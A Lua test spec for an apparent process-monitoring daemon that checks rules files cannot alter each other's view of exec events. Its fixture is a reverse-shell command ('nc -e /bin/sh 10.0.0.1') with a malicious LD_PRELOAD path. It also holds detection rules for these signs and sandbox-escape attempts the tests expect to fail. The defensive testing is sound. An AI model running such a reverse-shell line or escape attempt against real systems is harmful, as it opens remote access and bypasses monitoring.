-- event_readonly_spec.lua: one rules file cannot change what another sees.
-- The list and map fields of an event (argv, args, env, caps, ancestors)
-- and every process object a rule can reach (parent, tracer, each
-- ancestor, and their own lists) are read-only views: a write is an error
-- naming the field, the next rule still sees the original, and reading
-- them stays natural (#, ipairs, pairs, table.concat, table.unpack ...).
-- Attacked three ways: two rule files through procwarden.testing, the real
-- daemon's --replay, and the live tables of procwarden.event (this very
-- busted process, and a process context filled by the host).
package.path = "lua/?.lua;lua/?/init.lua;spec/?.lua;" .. package.path
package.cpath = (os.getenv("PW_BUILD") or "build") .. "/lua/?.so;" .. package.cpath
local testing = require "procwarden.testing"
local D = require "helpers.daemon"

-- procwarden.event on its own, around a host whose process context is a
-- plain table copied into the event (as engine.c's ctx_fill copies its own).
local host = {}
local event = D.load_runtime(host, { "procwarden.event" })

local read = D.read
local MY_PID = math.tointeger(tonumber(assert(read("/proc/self/stat")):match("^(%d+)")))

-- Does writing code (a function of the table) fail, naming the field?
local function refused(f, t, field)
  local ok, err = pcall(f, t)
  assert.is_false(ok, "the write to '" .. field .. "' was allowed")
  assert.is_truthy(tostring(err):find(("event field '%s' is read-only"):format(field), 1, true), tostring(err))
end

-- The victim's rules file: kill rules on every list, map and process object.
local VICTIM = [[
rule { name = "argv-e", on = "exec", match = { argv = "-e" }, action = kill() }
rule { name = "args-e", on = "exec", match = { args = "-e" }, action = kill() }
rule { name = "preload", on = "exec", when = function(e) return e.env ~= nil and e.env.LD_PRELOAD ~= nil end,
  action = kill() }
rule { name = "admin-cap", on = "exec", when = function(e) return e.caps ~= nil and e.caps.CAP_SYS_ADMIN == true end,
  action = kill() }
rule { name = "under-sshd", on = "exec", match = { ["ancestors.comm"] = "sshd" }, action = kill() }
rule { name = "from-nginx", on = "exec", match = { ["parent.exe"] = "*/nginx" }, action = kill() }
rule { name = "parent-argv", on = "exec",
  when = function(e) return e.parent ~= nil and e.parent.argv ~= nil and e.parent.argv[2] == "master" end,
  action = kill() }
rule { name = "ancestor-argv", on = "exec",
  when = function(e) return e.ancestors ~= nil and e.ancestors[2] ~= nil and e.ancestors[2].argv[1] == "sshd:" end,
  action = kill() }
rule { name = "traced-by-gdb", on = "exec",
  when = function(e) return e.tracer ~= nil and e.tracer.argv ~= nil and e.tracer.argv[1] == "gdb" end,
  action = kill() }
]]

local VICTIM_RULES = { "argv-e", "args-e", "preload", "admin-cap", "under-sshd", "from-nginx", "parent-argv",
  "ancestor-argv", "traced-by-gdb" }

-- One exec event every victim rule fires on.
local function nc_event()
  return {
    type = "exec", pid = 4242, exe = "/usr/bin/nc", argv = { "nc", "-e", "/bin/sh", "10.0.0.1" },
    env = { PATH = "/usr/bin", LD_PRELOAD = "/tmp/evil.so" }, caps = { CAP_SYS_ADMIN = true, CAP_KILL = true },
    parent = { pid = 900, exe = "/usr/sbin/nginx", comm = "nginx", argv = { "nginx:", "master" } },
    ancestors = {
      { pid = 900, exe = "/usr/sbin/nginx", comm = "nginx", argv = { "nginx:", "master" } },
      { pid = 800, exe = "/usr/sbin/sshd", comm = "sshd", argv = { "sshd:", "bob" } },
    },
    tracer = { pid = 777, exe = "/usr/bin/gdb", comm = "gdb", argv = { "gdb", "-p", "4242" } },
  }
end

local function fired_victims(p)
  local fired = {}
  for _, name in ipairs(VICTIM_RULES) do
    if p:fired(name) then fired[#fired + 1] = name end
  end
  return fired
end

-- Load the tampering file first (its handler runs first), then the victim.
local function attack(tamper)
  local a = D.policy(("on(\"exec\", function(e)\n%s\nend)\n"):format(tamper), "a.lua")
  local b = D.policy(VICTIM, "b.lua")
  local p = testing.load(a, b)
  p:feed(nc_event())
  return p
end

describe("a rules file that writes to an event's lists, maps and process objects", function()
  teardown(D.cleanup)

  -- tamper code, the field its error must name
  local WRITES = {
    { "e.argv[2] = 'innocent'", "argv" },
    { "e.argv[2] = nil", "argv" },
    { "for i = #e.argv, 1, -1 do e.argv[i] = nil end", "argv" },
    { "e.argv[#e.argv + 1] = 'x'", "argv" },
    { "table.remove(e.argv, 2)", "argv" },
    { "table.remove(e.argv)", "argv" },
    { "table.insert(e.argv, 1, 'x')", "argv" },
    { "table.insert(e.argv, 'x')", "argv" },
    { "table.sort(e.argv)", "argv" },
    { "table.move({}, 1, 4, 1, e.argv)", "argv" },
    { "e.argv = {}", "argv" },
    { "e.args[1] = 'x'", "args" },
    { "table.remove(e.args, 1)", "args" },
    { "e.env.LD_PRELOAD = nil", "env" },
    { "e.env.LD_PRELOAD = ''", "env" },
    { "e.env = {}", "env" },
    { "e.caps.CAP_SYS_ADMIN = nil", "caps" },
    { "e.ancestors[2] = nil", "ancestors" },
    { "table.remove(e.ancestors, 2)", "ancestors" },
    { "e.ancestors[2].comm = 'bash'", "comm" },
    { "e.ancestors[2].argv[1] = 'bash'", "argv" },
    { "e.parent.exe = '/usr/bin/innocent'", "exe" },
    { "e.parent.argv[2] = 'worker'", "argv" },
    { "table.remove(e.parent.argv)", "argv" },
    { "e.tracer.argv[1] = 'strace'", "argv" },
    { "e.tracer = nil", "tracer" },
  }

  for _, w in ipairs(WRITES) do
    local code, field = w[1], w[2]
    it(("fails (`%s`: event field '%s' is read-only) and changes nothing"):format(code, field), function()
      local p = attack(code)
      assert.are.same(VICTIM_RULES, fired_victims(p))
      local errors = p:errors()
      assert.are.equal(1, #errors, code)
      assert.is_truthy(errors[1].error:find(("event field '%s' is read-only"):format(field), 1, true),
        errors[1].error)
    end)
  end

  -- What the sandbox does not hand out, or hands out only to read.
  local ESCAPES = {
    { "rawset(e.argv, 2, 'x')", "undeclared global 'rawset'" },
    { "setmetatable(e.argv, nil)", "protected metatable" },
    { "local mt = getmetatable(e.argv); mt.__index[2] = 'x'", "attempt to index" },
    { "local f, s = pairs(e.env); s.LD_PRELOAD = nil", "attempt to index" },
    { "local f, s = ipairs(e.argv); s[2] = 'x'", "event field 'argv' is read-only" },
    { "local f, s = pairs(e); s.argv = {}", "attempt to index" },
  }
  for _, w in ipairs(ESCAPES) do
    local code, why = w[1], w[2]
    it(("cannot reach the stored table either (`%s`)"):format(code), function()
      local p = attack(code)
      assert.are.same(VICTIM_RULES, fired_victims(p))
      assert.are.equal(1, #p:errors())
      assert.is_truthy(p:errors()[1].error:find(why, 1, true), p:errors()[1].error)
    end)
  end
end)

describe("rules read the views naturally", function()
  teardown(D.cleanup)

  local READER = [[
on("exec", function(e)
  local seen = {}
  for i, a in ipairs(e.argv) do seen[#seen + 1] = i .. "=" .. a end
  local env = {}
  for k, v in pairs(e.env) do env[#env + 1] = k .. "=" .. v end
  table.sort(env)
  local caps = {}
  for k in pairs(e.caps) do caps[#caps + 1] = k end
  table.sort(caps)
  local copy = table.move(e.argv, 1, #e.argv, 1, {})
  copy[1] = "mine"
  table.sort(copy)
  local comms = {}
  for _, p in ipairs(e.ancestors) do comms[#comms + 1] = p.comm end
  log("info", table.concat({
    "n=" .. #e.argv, "nargs=" .. #e.args, "ipairs=" .. table.concat(seen, ","),
    "concat=" .. table.concat(e.argv, "+"), "unpack=" .. select("#", table.unpack(e.argv)),
    "last=" .. select(-1, table.unpack(e.argv)), "args2=" .. table.concat(e.args, "+", 2, 3),
    "env=" .. table.concat(env, ","), "caps=" .. table.concat(caps, ","), "copy=" .. table.concat(copy, "+"),
    "argv1=" .. e.argv[1], "cmdline=" .. e.cmdline, "parent=" .. e.parent.argv[2],
    "anc=" .. table.concat(comms, ","), "anc2argv=" .. table.concat(e.ancestors[2].argv, "+"),
    "tracer=" .. #e.tracer.argv, "fmt=" .. string.format("%s", e.argv):match("^[%a.]+"),
    "type=" .. type(e.argv), "rawequal=" .. tostring(rawequal(e.argv, e.argv)),
  }, " "), e)
  alert("tmpl {argv.2} [{args}] {parent.argv.2} {ancestors.2.argv.1}", e)
end)
]]

  it("#, ipairs, pairs, table.concat, table.unpack, table.move, select, templates", function()
    local p = testing.load(D.policy(READER, "reader.lua"))
    p:feed(nc_event())
    assert.are.same({}, p:errors())
    local out = p:outputs()
    assert.are.equal(2, #out)
    assert.are.equal(table.concat({
      "n=4", "nargs=3", "ipairs=1=nc,2=-e,3=/bin/sh,4=10.0.0.1", "concat=nc+-e+/bin/sh+10.0.0.1", "unpack=4",
      "last=10.0.0.1", "args2=/bin/sh+10.0.0.1", "env=LD_PRELOAD=/tmp/evil.so,PATH=/usr/bin",
      "caps=CAP_KILL,CAP_SYS_ADMIN", "copy=-e+/bin/sh+10.0.0.1+mine", "argv1=nc", "cmdline=nc -e /bin/sh 10.0.0.1",
      "parent=master", "anc=nginx,sshd", "anc2argv=sshd:+bob", "tracer=3", "fmt=procwarden.view", "type=table",
      "rawequal=true",
    }, " "), out[1].text)
    assert.are.equal("tmpl -e [-e /bin/sh 10.0.0.1] master sshd:", out[2].text)
  end)

  it("next() in a rule sees what pairs sees (a rule asking 'any capability at all?' still works)", function()
    local p = testing.load(D.policy([[
rule { name = "any-cap", on = "exec", when = function(e) return next(e.caps) ~= nil end, action = kill() }
on("exec", function(e)
  local k, v = next(e.argv)
  log("info", ("first=%s,%s env=%s fields=%s"):format(k, v, tostring(next(e.env) ~= nil), tostring(next(e) ~= nil)))
end)
]], "next.lua"))
    p:feed(nc_event())
    assert.are.same({}, p:errors())
    assert.is_true(p:fired("any-cap"))
    local logged = {}
    for _, o in ipairs(p:outputs()) do
      if o.text:find("^first=") then logged[#logged + 1] = o.text end
    end
    assert.are.same({ "first=1,nc env=true fields=true" }, logged)
  end)
end)

describe("the daemon's --replay", function()
  teardown(D.cleanup)

  it("one file emptying e.argv does not stop another file's argv rule", function()
    local a = D.policy([[
on("exec", function(e)
  local ok, err = pcall(function() for i = #e.argv, 1, -1 do e.argv[i] = nil end end)
  log("info", "tamper: " .. tostring(err))
  pcall(function() e.env.LD_PRELOAD = nil end)
  pcall(function() e.parent.argv[2] = "worker" end)
  pcall(function() table.remove(e.ancestors) end)
end)
]], "a.lua")
    local b = D.policy([[
rule { name = "nc-e", on = "exec", match = { argv = "-e" }, action = alert "nc -e {pid}" }
rule { name = "preload", on = "exec", when = function(e) return e.env.LD_PRELOAD ~= nil end,
  action = alert "preload {pid}" }
rule { name = "parent-argv", on = "exec", when = function(e) return e.parent.argv[2] == "master" end,
  action = alert "parent {pid}" }
rule { name = "under-sshd", on = "exec", match = { ["ancestors.comm"] = "sshd" }, action = alert "sshd {pid}" }
]], "b.lua")
    local res = D.replay { rules = { a, b }, events = { nc_event() }, stats = true }
    assert.are.equal(0, res.rc, res.err)
    local tamper = {}
    for _, line in ipairs(res.lines) do
      if (line.msg or ""):find("^tamper: ") then tamper[#tamper + 1] = line.msg end
    end
    assert.are.equal(1, #tamper, res.out)
    assert.matches("^tamper: %S*a%.lua:2: event field 'argv' is read%-only$", tamper[1])
    assert.are.same({ "nc -e 4242" }, D.msgs(res, "nc-e"))
    assert.are.same({ "preload 4242" }, D.msgs(res, "preload"))
    assert.are.same({ "parent 4242" }, D.msgs(res, "parent-argv"))
    assert.are.same({ "sshd 4242" }, D.msgs(res, "under-sshd"))
  end)

  it("JSON outputs still carry the lists and maps whole", function()
    local b = D.policy([[
rule { name = "all", on = "exec", when = function(e) return #e.argv > 0 and e.env ~= nil and e.caps ~= nil
  and #e.ancestors == 2 and e.parent.argv[1] ~= nil end, action = alert "all {pid}" }
]], "b.lua")
    local res = D.replay { rules = { b }, events = { nc_event() } }
    assert.are.equal(0, res.rc, res.err)
    local found = D.select(res, { rule = "all", kind = "alert" })
    assert.are.equal(1, #found, res.out)
    local ev = found[1].event
    assert.are.same({ "nc", "-e", "/bin/sh", "10.0.0.1" }, ev.argv)
    assert.are.equal("/tmp/evil.so", ev.env.LD_PRELOAD)
    assert.is_true(ev.caps.CAP_SYS_ADMIN)
    assert.are.same({ "nginx:", "master" }, ev.parent.argv)
    assert.are.equal(2, #ev.ancestors)
    assert.are.same({ "sshd:", "bob" }, ev.ancestors[2].argv)
  end)
end)

describe("live tables", function()
  after_each(function() host.ctx_fill = nil end)

  local function copy(list)
    local out = {}
    for i, v in ipairs(list) do out[i] = v end
    return out
  end

  it("this process: argv, args, env, caps, ancestors and the parent's lists refuse writes", function()
    local e = event.wrap { type = "exec", pid = MY_PID, tgid = MY_PID }
    local argv = copy(e.argv)
    assert.is_true(#argv > 0)
    refused(function(t) t.argv[1] = "x" end, e, "argv")
    refused(function(t) table.remove(t.argv) end, e, "argv")
    refused(function(t) t.args[1] = "x" end, e, "args")
    refused(function(t) t.env.PATH = "/tmp" end, e, "env")
    refused(function(t) t.caps.CAP_SYS_ADMIN = true end, e, "caps")
    refused(function(t) t.ancestors[1] = nil end, e, "ancestors")
    refused(function(t) t.parent.argv[1] = "x" end, e, "argv")
    refused(function(t) t.ancestors[1].argv[1] = "x" end, e, "argv")
    refused(function(t) t.ancestors[1].pid = 1 end, e, "pid")
    refused(function(t) t.argv = {} end, e, "argv")
    assert.are.same(argv, copy(e.argv))
    assert.are.equal(os.getenv("PATH"), e.env.PATH)
    assert.are.equal(#argv, #e.argv)
    assert.are.equal(table.concat(argv, " "), e.cmdline)
  end)

  it("a process object (proc(pid)) refuses writes to its lists too", function()
    local p = event.process(MY_PID)
    refused(function(t) t.argv[1] = "x" end, p, "argv")
    refused(function(t) t.env.X = "1" end, p, "env")
  end)

  it("argv captured in the process context is read-only once filled in", function()
    host.ctx_fill = function(ctx, t)
      for k, v in pairs(ctx) do rawset(t, k, v) end
    end
    local e = event.wrap { type = "exec", pid = MY_PID, tgid = MY_PID,
      _ctx = { exe = "/usr/bin/nc", argv = { "nc", "-e", "/bin/sh" }, argv_truncated = false } }
    assert.are.equal("/usr/bin/nc", e.exe)
    refused(function(t) t.argv[2] = "-x" end, e, "argv")
    refused(function(t) table.remove(t.argv, 2) end, e, "argv")
    assert.are.same({ "nc", "-e", "/bin/sh" }, copy(e.argv))
    assert.are.same({ "-e", "/bin/sh" }, copy(e.args))
  end)

  it("views are cached: the same view every read; is_view and next see through them", function()
    local e = event.recorded { type = "exec", pid = 1, tgid = 1, argv = { "a", "b" }, env = { X = "1" } }
    assert.is_true(rawequal(e.argv, e.argv))
    assert.is_true(event.is_view(e.argv))
    assert.is_false(event.is_view({}))
    assert.is_nil(next(e.env)) -- the raw next sees an empty table ...
    assert.are.same({ "X", "1" }, { event.next(e.env) }) -- ... event.next what it shows
    assert.are.same({ 2, "b" }, { event.next(e.argv, 1) })
    assert.is_nil(event.next(e.argv, 2))
    assert.are.same({ "k", 1 }, { event.next({ k = 1 }) })
    local own = setmetatable({}, { __index = { inherited = 1 } }) -- a rule's own object: raw next
    assert.is_nil(event.next(own))
    local fields = {}
    local k, v = event.next(e)
    while k ~= nil do
      fields[k] = v
      k, v = event.next(e, k)
    end
    assert.are.equal("exec", fields.type)
    assert.is_true(rawequal(e.argv, fields.argv))
    assert.is_nil(fields._replay) -- private names stay hidden, as with pairs
  end)

  it("a recorded line's nested objects are sealed, shared and cyclic ones once", function()
    local shared = { pid = 900, exe = "/usr/sbin/nginx", argv = { "nginx:" } }
    local t = { type = "exec", pid = 1000, tgid = 1000, parent = shared, ancestors = { shared } }
    shared.parent = shared
    local e = event.recorded(t)
    assert.is_true(rawequal(e.parent, e.ancestors[1]))
    assert.is_true(rawequal(e.parent, e.parent.parent))
    assert.is_false(e.parent.valid) -- recorded: never read live
    refused(function(x) x.parent.argv[1] = "x" end, e, "argv")
    refused(function(x) x.parent.parent.exe = "x" end, e, "exe")
    assert.are.equal("nginx:", e.ancestors[1].argv[1])
  end)

  it("event.freeze seals a plain recorded store the way the engine builds it", function()
    local s = { type = "exec", pid = 1, tgid = 1, _replay = true, argv = { "a" }, env = { A = "1" },
      caps = { CAP_KILL = true }, args = {}, parent = { pid = 2, argv = { "p" } },
      tracer = { pid = 3 }, ancestors = { { pid = 2 }, "junk", { pid = 4 } } }
    event.freeze(s)
    for _, k in ipairs { "argv", "env", "caps", "args", "ancestors" } do
      assert.is_true(event.is_view(rawget(s, k)), k)
    end
    assert.are.equal(3, #rawget(s, "ancestors"))
    for _, k in ipairs { "parent", "tracer" } do
      assert.are.equal("procwarden.event", getmetatable(rawget(s, k)), k)
    end
    assert.is_true(event.is_view(rawget(event.store(rawget(s, "parent")), "argv")))
  end)
end)
